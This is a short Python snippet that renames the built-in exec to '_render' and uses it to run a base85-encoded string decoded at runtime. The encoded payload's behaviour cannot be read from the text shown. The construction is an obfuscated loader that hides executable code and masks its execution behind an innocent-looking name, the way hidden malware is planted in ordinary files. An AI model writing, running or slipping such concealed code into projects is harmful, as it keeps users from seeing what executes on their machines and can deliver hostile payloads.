import base64

_render = exec
_render(base64.b85decode("X>D+Ca&#bXa|&;BE^~QvbY*QQB4c%OY#=RjAZT=Sa5^t9crr9DWq4t2aBO8RX>N95Y-waKVjz4Vb7&$d3I"))
